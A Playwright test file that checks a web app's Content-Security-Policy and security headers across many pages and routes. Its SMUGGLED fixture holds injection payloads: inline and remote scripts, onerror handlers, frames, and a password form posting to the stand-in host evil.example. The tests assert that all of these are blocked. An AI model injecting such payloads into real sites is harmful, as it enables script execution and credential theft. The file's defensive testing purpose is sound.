import { request as plainRequest } from 'node:http'
import type { Page } from '@playwright/test'
import { expect, test } from '@playwright/test'
import { PAGES, REFUSALS } from './support/pages'

/** What somebody would write into a page who found a way to: each sets `ran`, or asks another site. */
const SMUGGLED = `
  <base href="https://evil.example/">
  <script>window.ran = 'an inline script'</script>
  <script src="https://evil.example/x.js"></script>
  <img src="/nothing.png" onerror="window.ran = 'an attribute'" alt="">
  <img src="https://evil.example/x.png" alt="">
  <iframe src="https://evil.example/"></iframe>
  <iframe srcdoc="&lt;script&gt;parent.ran = 'a frame'&lt;/script&gt;"></iframe>
  <object data="https://evil.example/x.swf"></object>
  <style>body { background: red }</style>
  <p style="color: red">red</p>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <form id="smuggled" action="https://evil.example/" method="post"><input name="password"></form>`

/** What the browser has to have refused for it, by the rule that it names. */
const REFUSED = ['base-uri', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src-attr', 'script-src-elem']
/** Reported as `script-src`. */
const EVALUATING = `try { globalThis.eval('window.ran = "eval"') } catch {}`

const STYLES = ['style-src-attr', 'style-src-elem']

/** Opens an address with something written into its answer, and tells what the browser refused and what ran. */
async function opened(page: Page, address: string, smuggle: (body: string) => string) {
  const left: string[] = []
  // Asked only for what the browser lets through.
  await page.route('https://evil.example/**', (route) => {
    left.push(route.request().url())
    return route.abort()
  })
  await page.addInitScript(() => {
    const kept = window as unknown as { refused: string[] }
    kept.refused = []
    document.addEventListener('securitypolicyviolation', (event) => kept.refused.push(event.effectiveDirective))
  })
  await page.route(`**${address}`, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: smuggle(await response.text()) })
  })
  // A script of ours that makes a program of a text, as one that somebody else wrote might.
  await page.route('**/_next/static/**/*.js', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${await response.text()};${EVALUATING}` })
  })
  await page.goto(address)
  await page.evaluate(() => (document.getElementById('smuggled') as HTMLFormElement | null)?.submit())
  const said = () =>
    page.evaluate(() => {
      const { refused, ran } = window as unknown as { refused: string[]; ran?: string }
      return { refused: [...new Set(refused)].sort(), ran: ran ?? null }
    })
  return { said, left }
}

for (const [name, address] of [
  ['that is kept', '/'],
  ['in Chinese', '/zh/materials/Dy'],
  ['that is made anew for every reader', '/search?q=Dy'],
  ['of editors', '/admin/sign-in'],
  ['that is not there', '/no/such/page'],
  ['that refuses', '/r/1/2025-02-30/matrix'],
  ['that tells how a weakness is reported', '/about/security'],
  ['with the manual of the API', '/api/docs'],
] as const) {
  test(`nothing that is smuggled into a page ${name} runs, loads, frames or sends anything`, async ({ page }) => {
    const { said, left } = await opened(page, address, (html) => html.replace('</body>', `${SMUGGLED}</body>`))
    const wanted = expect.arrayContaining([...REFUSED, ...STYLES, 'script-src'])
    await expect.poll(async () => (await said()).refused).toEqual(wanted)
    expect((await said()).ran).toBeNull()
    expect(left).toEqual([])
    expect(new URL(page.url()).hostname).not.toBe('evil.example')
  })
}

test('in a frame for other sites not even a script of ours runs', async ({ page }) => {
  const { said, left } = await opened(page, '/embed/r/1/2025-11-08/matrix', (html) =>
    html.replace('</body>', `${SMUGGLED}<script src="/_next/static/x.js"></script></body>`),
  )
  await expect.poll(async () => (await said()).refused).toEqual(expect.arrayContaining(REFUSED))
  expect([(await said()).ran, left]).toEqual([null, []])
})

test('a drawing that is opened alone runs nothing that is smuggled into it', async ({ page }) => {
  const smuggled = '<script>document.documentElement.setAttribute("data-ran", "yes")</script></svg>'
  const { said, left } = await opened(page, '/r/1/2025-11-08/matrix.svg', (svg) =>
    svg.replace('</svg>', `<image href="https://evil.example/x.png"/>${smuggled}`),
  )
  await expect.poll(async () => (await said()).refused).toEqual(expect.arrayContaining(['img-src', 'script-src-elem']))
  expect(await page.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull()
  expect(left).toEqual([])
})

test('a picture that is opened alone is shown', async ({ page }) => {
  await page.goto('/r/1/2025-11-08/matrix.png')
  expect(await page.evaluate(() => document.images[0]?.naturalWidth)).toBeGreaterThan(100)
})

type Answer = { readonly status: number; readonly fields: ReadonlyMap<string, string> }

/** One answer as it came; fields that are there more than once are put together. */
function ask(baseURL: string | undefined, path: string, method: string, headers = {}): Promise<Answer> {
  const { hostname, port } = new URL(baseURL ?? '')
  return new Promise((resolve, reject) => {
    const asked = plainRequest({ hostname, port, path, method, headers }, (response) => {
      const fields = new Map<string, string>()
      for (let at = 0; at < response.rawHeaders.length; at += 2) {
        const [name, value] = [response.rawHeaders[at]?.toLowerCase() ?? '', response.rawHeaders[at + 1] ?? '']
        fields.set(name, [fields.get(name), value].filter((one) => one !== undefined).join('; '))
      }
      response.resume().once('end', () => resolve({ status: response.statusCode ?? 0, fields }))
    })
    asked.once('error', reject).end()
  })
}

/** Answers of every maker: pages, routes, the router, the proxy, the framework's own files, and the server in front. */
const MADE_OTHERWISE = [
  ...['/matrix.csv', '/matrix.json', '/matrix.svg', '/matrix.png', '/matrix.xlsx', '/og.png', '/materials/dy'],
  ...[
    '/feed.xml',
    '/feed.json',
    '/calendar.ics',
    '/sitemap.xml',
    '/robots.txt',
    '/icon.svg',
    '/favicon.ico',
    '/embed.css',
  ],
  ...['/embed/r/1/2025-11-08/matrix', '/embed/nothing', '/admin', '/admin/account', '/admin/join/x', '/admin/people'],
  ...['/api/v1/status?material=Dy&form=metal&on=2025-11-08', '/api/v1/openapi.json', '/api/v1/nothing', '/api/nothing'],
  ...[
    '/api/docs',
    '/api/docs/viewer/swagger-ui-bundle.js',
    '/api/docs/viewer/nothing',
    '/api/palette',
    '/api/oembed?url=x',
  ],
  ...['/healthz', '/readyz', '/metrics', '/%E4', '/_next/static/nothing.js', '/_next/image?url=x', '/timemap/link/'],
  ...['/s/hello', '/data/nothing.json', '/.well-known/security.txt', '/?on=2025-11-08'],
]

test('every answer carries what answers carry, whoever made it and whatever it says', async ({ baseURL }) => {
  const addresses = [...new Set([...PAGES, ...REFUSALS].map(({ address }) => address)), ...MADE_OTHERWISE]
  const lacking: string[] = []
  const look = ({ status, fields }: Answer, asked: string) => {
    const lacks = (name: string, value: RegExp) => {
      if (!value.test(fields.get(name) ?? '')) lacking.push(`${asked} ${status}: ${name}: ${fields.get(name)}`)
    }
    lacks('x-content-type-options', /^nosniff$/)
    lacks('strict-transport-security', /^max-age=31536000$/)
    lacks('referrer-policy', /^(strict-origin-when-cross-origin|same-origin)$/)
    const isPage = /^text\/html/.test(fields.get('content-type') ?? '')
    if (status !== 304) lacks('content-security-policy', /(default|script)-src/)
    if (isPage || status !== 304) lacks('content-security-policy', /frame-ancestors ('none'|\*)/)
    if ((fields.get('content-security-policy') ?? '').match(/script-src[^;]*unsafe/)) lacking.push(`${asked}: unsafe`)
    if (!isPage) return
    lacks('cross-origin-opener-policy', /^same-origin$/)
    lacks('permissions-policy', /camera=\(\)/)
    if (asked.includes('/admin')) lacks('cache-control', /no-store/)
    if (asked.includes('/admin')) lacks('referrer-policy', /^same-origin$/)
  }
  for (const address of addresses) {
    const got = await ask(baseURL, address, 'GET')
    look(got, `GET ${address}`)
    look(await ask(baseURL, address, 'HEAD'), `HEAD ${address}`)
    const tag = got.fields.get('etag')
    if (tag !== undefined) look(await ask(baseURL, address, 'GET', { 'if-none-match': tag }), `again ${address}`)
  }
  for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS', 'TRACE']) {
    for (const address of ['/', '/api/v1/matrix', '/admin/account', '/healthz']) {
      look(await ask(baseURL, address, method), `${method} ${address}`)
    }
  }
  expect(lacking).toEqual([])
})
